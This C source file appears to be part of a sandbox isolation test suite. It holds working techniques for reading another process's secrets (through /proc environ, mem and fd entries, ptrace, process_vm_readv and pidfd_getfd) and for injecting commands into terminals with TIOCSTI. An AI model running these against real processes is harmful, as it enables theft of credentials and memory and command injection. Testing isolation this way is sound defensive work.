/* Other processes: a victim of the same user holds the secret in its environment, arguments and memory. */
#include "attack.h"
#include <dirent.h>
#include <pthread.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/uio.h>

/* Looks into one file of every process that can be seen. Only the string that begins with `wanted`, or has it
 * anywhere, is printed: what other processes of this machine hold is none of our business. */
static void print_of_all(const char *file, const char *wanted) {
    static char text[65536];
    char path[300];
    DIR *proc = opendir("/proc");
    if (!proc) fail("/proc");
    for (struct dirent *entry; (entry = readdir(proc));) {
        if (strtol(entry->d_name, NULL, 10) <= 0) continue;
        snprintf(path, sizeof path, "/proc/%s/%s", entry->d_name, file);
        int fd = open(path, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, text, sizeof text - 1);
        close(fd);
        for (char *word = text; n > 0 && word < text + n; word += strlen(word) + 1) {
            text[n] = 0;
            if (strstr(word, wanted)) puts(word);
        }
    }
}

static void environ_of_all(void) { print_of_all("environ", "VICTIM_SECRET="); }

static void cmdline_of_all(void) { print_of_all("cmdline", "secret-"); }

/* Names one of the victim's files in /proc: to be opened, or to be named by a descriptor of our own. */
static char *of_victim(const char *file, const char *number) {
    static char path[96];
    if (number) snprintf(path, sizeof path, "/proc/%ld/%s/%ld", conf_number("pid"), file, conf_number(number));
    else snprintf(path, sizeof path, "/proc/%ld/%s", conf_number("pid"), file);
    return path;
}

static char *by_own(const char *named) {
    static char path[64];
    int fd = open(named, O_PATH);
    if (fd < 0) fail(named);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    return path;
}

static void print_memory(const char *path, long address) {
    char text[128] = "";
    int fd = open(path, O_RDONLY);
    if (fd < 0) fail(path);
    if (pread(fd, text, sizeof text - 1, address) <= 0) fail("pread");
    puts(text);
}

static void put_pipe(const char *path) {
    put_file(path, token);
    usleep(300000);
}

static void fd_memory(void) { print_file(of_victim("fd", "memory_fd")); }
static void fd_memory_again(void) { print_file(by_own(of_victim("fd", "memory_fd"))); }
static void fd_memory_of_task(void) { print_file(of_victim("task/../fd", "memory_fd")); }
static void fd_pipe(void) { put_pipe(of_victim("fd", "pipe_fd")); }
static void fd_pipe_again(void) { put_pipe(by_own(of_victim("fd", "pipe_fd"))); }
static void proc_mem(void) { print_memory(of_victim("mem", NULL), conf_number("address")); }
static void mem_again(void) { print_memory(by_own(of_victim("mem", NULL)), conf_number("address")); }
static void environ_again(void) { print_file(by_own(of_victim("environ", NULL))); }

static void mem_from_inside(void) {
    long address = conf_number("address");
    if (chdir(of_victim("", NULL))) fail("chdir");
    print_memory("mem", address);
}

static int spun;
static void *spin(void *argument) {
    const int *two = argument;
    while (spun > 0) dup2(two[0], spun), dup2(two[1], spun);
    return NULL;
}

/* One number, which by turns is of memory of our own and names that of the victim. */
static void fd_memory_spun(void) {
    static int two[2];
    char path[64], text[256] = "";
    pthread_t thread;
    two[0] = memfd_create("own", 0);
    two[1] = open(of_victim("fd", "memory_fd"), O_PATH);
    if (two[0] < 0 || two[1] < 0) fail("memory");
    spun = dup(two[0]);
    snprintf(path, sizeof path, "/proc/self/fd/%d", spun);
    pthread_create(&thread, NULL, spin, two);
    for (double end = seconds() + 3; seconds() < end && !text[0];) {
        int fd = open(path, O_RDONLY);
        if (fd >= 0 && pread(fd, text, sizeof text - 1, 0) > 0) puts(text);
        close(fd);
    }
}

static void by_ptrace(void) {
    pid_t pid = (pid_t)conf_number("pid");
    long address = conf_number("address");
    char text[128] = "";
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) || ptrace(PTRACE_INTERRUPT, pid, 0, 0)) fail("ptrace");
    waitpid(pid, NULL, __WALL);
    for (size_t i = 0; i < sizeof text - 8; i += 8) {
        long word = ptrace(PTRACE_PEEKDATA, pid, address + (long)i, 0);
        memcpy(text + i, &word, 8);
    }
    ptrace(PTRACE_DETACH, pid, 0, 0);
    puts(text);
}

static void by_vm_readv(void) {
    char text[128] = "";
    struct iovec local = {text, sizeof text - 1}, remote = {(void *)conf_number("address"), sizeof text - 1};
    if (process_vm_readv((pid_t)conf_number("pid"), &local, 1, &remote, 1, 0) <= 0) fail("process_vm_readv");
    puts(text);
}

/* The victim watches this word of its memory and reports when it changes. */
static void by_vm_writev(void) {
    char text[] = "CHANGED!";
    struct iovec local = {text, 8}, remote = {(void *)conf_number("canary"), 8};
    if (process_vm_writev((pid_t)conf_number("pid"), &local, 1, &remote, 1, 0) != 8) fail("process_vm_writev");
    usleep(300000);
}

static void by_pidfd_getfd(void) {
    int pidfd = (int)syscall(434, (pid_t)conf_number("pid"), 0);
    if (pidfd < 0) fail("pidfd_open");
    int fd = (int)syscall(438, pidfd, (int)conf_number("secret_fd"), 0);
    if (fd < 0) fail("pidfd_getfd");
    lseek(fd, 0, SEEK_SET);
    print_descriptor(fd);
}

/* Settings of another process that need neither ptrace nor a signal. */
static void by_prlimit(void) {
    struct rlimit limit = {777, 777};
    if (prlimit((pid_t)conf_number("pid"), RLIMIT_NOFILE, &limit, NULL)) fail("prlimit");
}

static void by_setpriority(void) {
    if (setpriority(PRIO_PROCESS, (id_t)conf_number("pid"), 15)) fail("setpriority");
}

static void by_affinity(void) {
    cpu_set_t set;
    CPU_ZERO(&set);
    CPU_SET(0, &set);
    if (sched_setaffinity((pid_t)conf_number("pid"), sizeof set, &set)) fail("sched_setaffinity");
}

static void by_oom_score(void) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%ld/oom_score_adj", conf_number("pid"));
    put_file(path, "777");
}

/* The terminal we run on: put a command into its input, for the shell that comes after us. */
static void by_tiocsti(void) {
    for (const char *c = token; *c; c++)
        if (ioctl(0, TIOCSTI, c)) fail("TIOCSTI");
    if (ioctl(0, TIOCSTI, "\n")) fail("TIOCSTI");
}

/* The same with a request number whose upper half is not zero: the kernel looks at the lower 32 bits only. */
static void by_tiocsti_wide(void) {
    for (const char *c = token; *c; c++)
        if (syscall(SYS_ioctl, 0, 0x100000000UL | TIOCSTI, c)) fail("TIOCSTI");
    if (syscall(SYS_ioctl, 0, 0x100000000UL | TIOCSTI, "\n")) fail("TIOCSTI");
}

/* And through a fresh descriptor of the controlling terminal. */
static void by_tiocsti_dev_tty(void) {
    int fd = open("/dev/tty", O_RDWR);
    if (fd < 0) fail("/dev/tty");
    for (const char *c = token; *c; c++)
        if (ioctl(fd, TIOCSTI, c)) fail("TIOCSTI");
    if (ioctl(fd, TIOCSTI, "\n")) fail("TIOCSTI");
}

/* Another terminal of the same user; the victim holds its master and logs what arrives. */
static void by_other_tty(void) {
    int fd = open(conf("tty"), O_WRONLY | O_NOCTTY);
    if (fd < 0) fail("tty");
    put(fd, token);
    usleep(300000);
}

const struct attack PROCESSES[] = {
    {"proc-environ", environ_of_all},
    {"proc-cmdline", cmdline_of_all},
    {"proc-mem", proc_mem},
    {"proc-mem-again", mem_again},
    {"proc-mem-from-inside", mem_from_inside},
    {"proc-environ-again", environ_again},
    {"proc-fd-memory", fd_memory},
    {"proc-fd-memory-again", fd_memory_again},
    {"proc-fd-memory-of-task", fd_memory_of_task},
    {"proc-fd-memory-spun", fd_memory_spun},
    {"proc-fd-pipe", fd_pipe},
    {"proc-fd-pipe-again", fd_pipe_again},
    {"proc-ptrace", by_ptrace},
    {"proc-vm-readv", by_vm_readv},
    {"proc-vm-writev", by_vm_writev},
    {"proc-pidfd-getfd", by_pidfd_getfd},
    {"proc-prlimit", by_prlimit},
    {"proc-setpriority", by_setpriority},
    {"proc-affinity", by_affinity},
    {"proc-oom-score", by_oom_score},
    {"tty-tiocsti", by_tiocsti},
    {"tty-tiocsti-wide", by_tiocsti_wide},
    {"tty-tiocsti-dev-tty", by_tiocsti_dev_tty},
    {"tty-other", by_other_tty},
    {NULL, NULL},
};
